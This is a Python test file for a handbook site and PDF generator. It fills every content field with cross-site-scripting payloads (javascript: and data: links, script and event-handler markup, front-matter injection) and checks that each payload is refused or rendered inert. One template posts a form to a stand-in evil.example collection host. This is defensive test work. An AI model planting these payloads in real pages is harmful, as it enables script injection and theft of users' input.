"""One rule for text, in every file: every text field of every model, found from the models themselves (so a
field added later is covered without editing this test), is filled with hostile values, and each is either
refused with a problem at that field or comes out inert, on the site and in the PDF handouts.

The files are made from the models: every field filled in (lists with one entry, optional fields too), with a
sample value of the right form where a field has a pattern (a web address, an id, a colour).
"""

from __future__ import annotations

import copy
import datetime as dt
import html
import re
import sys
import types
import typing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import BaseModel, RootModel

from generator.load import load_tree
from generator.models import (
    EMAIL_PATTERN,
    HEX_COLOR_PATTERN,
    ID_PATTERN,
    LANGUAGE_PATTERN,
    PAGE_KINDS,
    PHONE_PATTERN,
    URL_PATTERN,
    HandbookSettings,
    OfficeFile,
    Sources,
)
from generator.offices import for_office, layer, load_office
from generator.problems import ContentError
from generator.validate import validate

from .conftest import REPO, handbook, run

# --- files made from the models --------------------------------------------------------------------------------

NORMAL = "Plain words"
SAMPLES = {  # a valid value for each pattern a text field may have
    ID_PATTERN: "before",
    EMAIL_PATTERN: "careers@example.org",
    PHONE_PATTERN: "+1 555 0100",
    HEX_COLOR_PATTERN: "#283593",
    URL_PATTERN: "https://example.org/",
    LANGUAGE_PATTERN: "en",
}
# Fields whose valid value depends on other files: ids that must exist, a message that uses its placeholders.
BY_NAME: dict[str, Any] = {
    "kind": None, "phase": "before", "related": [], "sources": ["an-article"], "packet": ["the-checklist"],
    "hide": [], "logo": None, "language": "en", "languages": [], "paper": "letter", "order": None, "printable": True,
    "contents": True, "lines": 2, "message": "Dear [Name], thank you.", "name@Placeholder": "Name",
    "id@Phase": "before", "min_reading_ease": {},
    # Audiences: every part is for the one audience the handbook declares, and an office serves them all.
    "audiences": ["before"], "audiences@HandbookSettings": "make", "audiences@OfficeFile": [],
    "source": "an-article", "low@WriteIn": None, "high@WriteIn": None, "weight": None,
    # The editor's git host: its values go into admin/config.yml (for Decap), never into a page or a handout.
    "editor": None,
}
Path_ = tuple[Any, ...]


def _unwrap(tp: Any) -> tuple[Any, list[Any]]:
    """The type under Annotated/Optional, and the metadata met on the way."""
    metadata: list[Any] = []
    while True:
        origin = typing.get_origin(tp)
        if origin is typing.Annotated:
            tp, *more = typing.get_args(tp)
            metadata.extend(more)
        elif origin in (typing.Union, types.UnionType):
            args = [a for a in typing.get_args(tp) if a is not type(None)]
            tp = args[0]
        else:
            return tp, metadata


def _pattern(metadata: list[Any]) -> str | None:
    for item in metadata:
        for found in (getattr(item, "pattern", None), *[getattr(m, "pattern", None) for m in
                                                         getattr(item, "metadata", [])]):
            if found:
                return found
    return None


def _has_text(tp: Any) -> bool:
    tp, _ = _unwrap(tp)
    if tp is str:
        return True
    if isinstance(tp, type) and issubclass(tp, BaseModel):
        return any(_has_text(field.annotation) for field in tp.model_fields.values())
    return any(_has_text(arg) for arg in typing.get_args(tp)) if typing.get_origin(tp) in (list, dict) else False


def made(tp: Any, path: Path_, texts: list[Path_], metadata: list[Any] | None = None) -> Any:
    """A valid value of type ``tp`` with every field filled in; the paths of its text leaves go in ``texts``."""
    tp, found = _unwrap(tp)
    metadata = [*(metadata or []), *found]
    if isinstance(tp, type) and issubclass(tp, RootModel):
        return made(tp.model_fields["root"].annotation, path, texts)
    if isinstance(tp, type) and issubclass(tp, BaseModel):
        out = {}
        for name, field in tp.model_fields.items():
            key = f"{name}@{tp.__name__}" if f"{name}@{tp.__name__}" in BY_NAME else name
            if key in BY_NAME and BY_NAME[key] != "make":
                if BY_NAME[key] is not None:
                    out[name] = copy.deepcopy(BY_NAME[key])  # not shared: YAML would write an alias
                    if isinstance(BY_NAME[key], str) and name != "phase":
                        texts.append((*path, name))
                continue
            if not field.is_required() and not _has_text(field.annotation):
                continue  # a number, a choice, a date or a switch with a default: its default will do
            out[name] = made(field.annotation, (*path, name), texts, field.metadata)
        return out
    origin = typing.get_origin(tp)
    if origin is list:
        return [made(typing.get_args(tp)[0], (*path, 0), texts)]
    if origin is dict:
        return {"an-article": made(typing.get_args(tp)[1], (*path, "an-article"), texts)}
    if origin is typing.Literal:
        return typing.get_args(tp)[0]
    if tp is str:
        pattern = _pattern(metadata)
        texts.append(path)
        if pattern is None:
            return NORMAL
        assert pattern in SAMPLES, f"a text field with a new pattern: add a sample of {pattern} to SAMPLES"
        return SAMPLES[pattern]
    if tp is bool:
        return True
    if tp is int:
        return 3
    if tp is float:
        return 9.0
    if tp is dt.date:
        return "2026-11-01"
    raise AssertionError(f"{path}: no sample for the type {tp}; teach this test about it")


def made_files() -> tuple[dict[str, Any], dict[str, list[Path_]]]:
    """Every file of a handbook with one office, made from the models, and each file's text paths."""
    files: dict[str, Any] = {}
    texts: dict[str, list[Path_]] = {}

    def add(name: str, model: Any, **fixed: Any) -> None:
        found: list[Path_] = []
        files[name] = {**made(model, (), found), **fixed}
        texts[name] = [path for path in found if not (len(path) == 1 and path[0] in fixed)]

    add("content/handbook.yml", HandbookSettings)
    add("content/sources.yml", Sources)
    for kind, model in PAGE_KINDS.items():
        name = "index" if kind == "page" else f"the-{kind}"
        add(f"content/{name}.yml", model, kind=kind, **({"phase": "before"} if kind == "page" else {}))
    add("offices/riverside/office.yml", OfficeFile)
    add("offices/riverside/content/our-page.yml", PAGE_KINDS["page"], kind="page", contents=False)
    files["offices/riverside/patches/the-guide.yml"] = {"intro": NORMAL, "key_points+": [NORMAL]}
    texts["offices/riverside/patches/the-guide.yml"] = [("intro",), ("key_points+", 0)]
    return files, texts


def _set(data: Any, path: Path_, value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def _spoil(data: Any, path: Path_, hostile: str) -> None:
    """Put ``hostile`` before the field's own text, a paragraph of its own (the field's text stays, so a message
    keeps its [Placeholders])."""
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = f"{hostile}\n\n{data[path[-1]]}"


def _write(root: Path, files: dict[str, Any]) -> None:
    for name, data in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    (root / "mkdocs.yml").write_text(f"site_name: hostile\ndocs_dir: content\nsite_url: https://example.org/\n"
                                     f"theme:\n  name: material\nplugins:\n  - handbook:\n"
                                     f"      templates: {REPO / 'templates'}\n", encoding="utf-8")


def _problems(root: Path) -> list[Any]:
    """Every problem validation finds in the base handbook and in the office's."""
    problems = []
    tree = load_tree(root / "content")
    try:
        validate(tree)
    except ContentError as error:
        problems.extend(error.problems)
    try:
        office = load_office(root / "offices", "riverside")
        layered = layer(tree, office)
        for_office(validate(layered.tree, layered.hidden), office, layered.asset_dirs)
    except ContentError as error:
        problems.extend(error.problems)
    return problems


def _refused(root: Path, problems: list[Any], texts: dict[str, list[Path_]]) -> set[tuple[str, Path_]]:
    """The (file, path) of every hostile field a problem points at."""
    refused = set()
    for problem in problems:
        name = problem.file.relative_to(root).as_posix()
        for path in texts.get(name, []):
            # An entry a patch adds ("key_points+") lands after the base page's entries: match the list.
            shown = (path[0][:-1],) if str(path[0]).endswith("+") else path
            if problem.key[:len(shown)] == shown:
                refused.add((name, path))
    return refused


# --- hostile values ------------------------------------------------------------------------------------------

LINKS = [  # Markdown links to scripts and data, plainly and disguised: each must be refused where it is typed
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x61;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( vbscript:msgbox(1) )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    '[click](javascript:alert(1) "title")',
    "[the intro](javascript:alert((document.domain)))",  # parentheses within parentheses
    "- a list\n\n    [here][r]\n\n    [r]: javascript:alert(2)",  # a reference defined inside a list item
    "[x]:\n  javascript:alert(1)\n\n[y][x]",  # a reference whose target is on the next line
]
MARKUP = [  # HTML and Markdown that must come out as text wherever they are allowed at all
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '{: onclick="alert(1)" }',
    "{#x onclick=alert(1)}",
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
]
OFFICE_LAYER = ("offices/riverside/content/", "offices/riverside/patches/")
DANGEROUS_URL = re.compile(r"^(?:javascript|vbscript|data):", re.I)


@pytest.mark.parametrize("hostile", LINKS)
def test_a_hostile_link_is_refused_in_every_text_field(tmp_path: Path, hostile: str) -> None:
    files, texts = made_files()
    _write(tmp_path, files)
    assert _problems(tmp_path) == [], "the files made from the models are valid"
    refused: set[tuple[str, Path_]] = set()
    # office.yml is checked before the office's pages and patches are laid over the base: two rounds.
    for round_ in (lambda name: not name.startswith(OFFICE_LAYER), lambda name: name.startswith(OFFICE_LAYER)):
        files, _ = made_files()
        for name, paths in texts.items():
            for path in paths if round_(name) else ():
                _spoil(files[name], path, hostile)
        _write(tmp_path, files)
        refused |= _refused(tmp_path, _problems(tmp_path), texts)
    missed = sorted(f"{name}: {path}" for name, paths in texts.items() for path in paths
                    if (name, path) not in refused)
    assert not missed, f"these fields let {hostile!r} through without a problem: {missed}"


class _Inertness(HTMLParser):
    """Collects anything in a page that could run: script with our marker, event handlers, dangerous links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "frame"):
            self.found.append(f"<{tag}>")
        if tag == "svg" and any(name.startswith("on") for name, _ in attrs):
            self.found.append("<svg on…>")
        self._script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and "alert" in value:
                self.found.append(f"<{tag} {name}={value!r}>")
            bare = re.sub(r"[\x00-\x20]", "", html.unescape(value))
            if name in ("href", "src", "action", "formaction", "xlink:href", "data") and DANGEROUS_URL.match(bare) \
                    and not bare.startswith("data:image/svg+xml;charset=utf-8"):  # Material's own icons
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and "javascript:" in bare.lower():
                self.found.append(f"<{tag} style={value!r}>")

    def handle_data(self, data: str) -> None:
        if self._script and "alert(" in data:
            self.found.append(f"<script>{data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def _live_parts(text: str) -> list[str]:
    parser = _Inertness()
    parser.feed(text)
    return parser.found


def _build_spoiled(root: Path, hostile_for: Any, *options: str) -> set[tuple[str, Path_]]:
    """Every text field spoiled with ``hostile_for(n)`` (n counts the fields); what validation refuses is put
    back (it said where), and the rest is built, base and office. Returns the refused fields."""
    files, texts = made_files()
    fields = [(name, path) for name, paths in texts.items() for path in paths]
    for n, (name, path) in enumerate(fields):
        _spoil(files[name], path, hostile_for(n))
    refused: set[tuple[str, Path_]] = set()
    for _ in range(5):
        _write(root, files)
        problems = _problems(root)
        if not problems:
            break
        now = _refused(root, problems, texts)
        assert now - refused, f"problems that point at no hostile field: {[p.headline() for p in problems][:5]}"
        refused |= now
        made_again, _ = made_files()
        for name, path in now:
            value = made_again[name]
            for part in path:
                value = value[part]
            _set(files[name], path, value)
    else:
        raise AssertionError("validation never passed")
    built = [field for field in fields if field not in refused]
    assert len(built) > 40, f"most fields take any text, so most are built with the markup in them: {built}"
    for args in (("build", *options), ("build", "--office", "riverside", *options)):
        result = handbook(*args, cwd=root)
        assert result.returncode == 0, result.stdout + result.stderr
    pages = sorted((root / "site").rglob("*.html"))
    assert len(pages) > 10
    live = {page.relative_to(root).as_posix(): found for page in pages
            if (found := _live_parts(page.read_text(encoding="utf-8")))}
    assert not live, live
    return refused


@pytest.mark.slow
def test_hostile_markup_in_every_text_field_comes_out_inert_on_the_site(tmp_path: Path) -> None:
    """All the markup at once, in every field, on every page of the site."""
    _build_spoiled(tmp_path, lambda n: " ".join(MARKUP), "--no-pdf")
    some = (tmp_path / "site" / "the-checklist" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in some, "the markup is shown as the text it is"


@pytest.mark.slow
def test_hostile_markup_in_every_text_field_comes_out_inert_in_the_handouts(tmp_path: Path) -> None:
    """Two pieces of markup a field, in turn (all of it would not fit a checklist on one page), on the site
    and in every PDF handout."""
    _build_spoiled(tmp_path, lambda n: f"{MARKUP[n % len(MARKUP)]} {MARKUP[(n + 7) % len(MARKUP)]}")
    pdfs = sorted((tmp_path / "site").rglob("*.pdf"))
    _assert_pdfs_inert(pdfs)
    from pypdf import PdfReader

    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "site" / "handouts" / "the-checklist.pdf")
                   .pages)
    assert "alert(1)" in text, "the markup is printed as the text it is"


def _assert_pdfs_inert(pdfs: list[Path], least: int = 6) -> set[str]:
    """No scripts, launches, attachments or dangerous links in any of ``pdfs``; returns the links they hold."""
    from pypdf import PdfReader

    assert len(pdfs) >= least, pdfs
    links = set()
    for pdf in pdfs:
        reader = PdfReader(pdf)
        raw = pdf.read_bytes()
        for marker in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/EmbeddedFile", b"/SubmitForm"):
            assert marker not in raw, f"{pdf.name} holds {marker!r}"
        catalog = reader.trailer["/Root"]
        assert "/OpenAction" not in catalog and "/JavaScript" not in (catalog.get("/Names") or {}), pdf.name
        for page in reader.pages:
            for annotation in page.get("/Annots") or []:
                action = annotation.get_object().get("/A")
                kind = action.get("/S") if action is not None else None
                assert kind in (None, "/URI", "/GoTo"), f"{pdf.name} has a {kind} action"
                if action is not None and action.get("/S") == "/URI":
                    uri = str(action.get("/URI"))
                    assert not DANGEROUS_URL.match(uri.strip()), f"{pdf.name} links to {uri}"
                    links.add(uri)
    return links


@pytest.mark.slow
def test_raw_html_in_an_office_template_is_sanitised_on_the_site_and_in_the_pdf(tmp_path: Path) -> None:
    """An office template is trusted with layout, not with scripts: raw HTML it writes is cleaned on the site
    (nh3), and links it writes to scripts never become links in a handout."""
    files, _ = made_files()
    _write(tmp_path, files)
    templates = tmp_path / "offices" / "riverside" / "templates"
    templates.mkdir()
    evil = ('<p onclick="alert(1)">Hi <a href="javascript:alert(1)">x</a> <a href="jav&#x09;ascript:alert(1)">y</a>'
            '<script>alert(1)</script><iframe src="https://evil.example"></iframe>'
            '<img src="data:text/html,<script>alert(1)</script>" onerror="alert(1)">'
            '<a href="https://example.org/ok">ok</a></p>'
            '<h2 id="__config">{"search": "data:text/javascript,alert(1)"}</h2>'
            '<a data-md-component="source" href="https://evil.example/repo">repo</a>'
            '<form action="javascript:alert(1)"><input name="q"><button>Send</button></form>'
            '<form action="https://evil.example/collect"><input type="submit" value="Send"></form>')
    # Material prints the front matter's title and description into <head> as they are.
    front = ('---\ntitle: "x</title><script>alert(\'title\')</script>"\n'
             'description: "\\"><script>alert(\'desc\')</script><meta x=\\""\ntemplate: "../../evil.html"\n---\n')
    (templates / "page.md.j2").write_text(front + "\n# {{ page.title | inline }}\n\n" + evil + "\n", encoding="utf-8")
    # MkDocs also reads "--- " with a space, a closing "...", and "key: value" lines with no dashes at all.
    (templates / "guide.md.j2").write_text('--- \ntitle: "<script>alert(\'title2\')</script>"\n...\n\n# Hi\n',
                                           encoding="utf-8")
    (templates / "script.md.j2").write_text("template: redirect.html\nlocation: javascript:alert(1)\n\n# Hi\n",
                                            encoding="utf-8")
    handout = (REPO / "templates" / "_handout.html.j2").read_text(encoding="utf-8")
    assert "</body>" in handout
    (templates / "_handout.html.j2").write_text(handout.replace("</body>", f"{evil}</body>"), encoding="utf-8")
    result = handbook("build", "--office", "riverside", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    page = (tmp_path / "site" / "riverside" / "index.html").read_text(encoding="utf-8")
    assert _live_parts(page) == []
    assert 'id="__config"' not in page.split('<script id="__config"')[0], "content cannot take Material's ids"
    assert "<title>x&lt;/title&gt;&lt;script&gt;" in page and "action=" not in page
    assert 'data-md-component="source" href="https://evil' not in page, "Material's hooks are its own"
    for other in ("the-guide", "the-script"):
        built = (tmp_path / "site" / "riverside" / other / "index.html").read_text(encoding="utf-8")
        assert _live_parts(built) == [] and "http-equiv=\"refresh\"" not in built, other
        assert "alert(" not in built.split("<body")[0] or "&lt;script&gt;" in built.split("<body")[0], other
    assert '<a href="https://example.org/ok">ok</a>' in page, "what is safe stays"
    links = _assert_pdfs_inert(sorted((tmp_path / "site" / "riverside").rglob("*.pdf")), least=4)
    assert "https://example.org/ok" in links, "the safe link in the same template stays a link"
    # An export builds with plain MkDocs: the hook it ships cleans each page as the plugin does.
    result = handbook("export", "--office", "riverside", "--no-pdf", tmp_path / "export", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    built = run(sys.executable, "-m", "mkdocs", "build", cwd=tmp_path / "export")
    assert built.returncode == 0, built.stderr
    exported = (tmp_path / "export" / "site" / "index.html").read_text(encoding="utf-8")
    assert _live_parts(exported) == [] and '<a href="https://example.org/ok">ok</a>' in exported
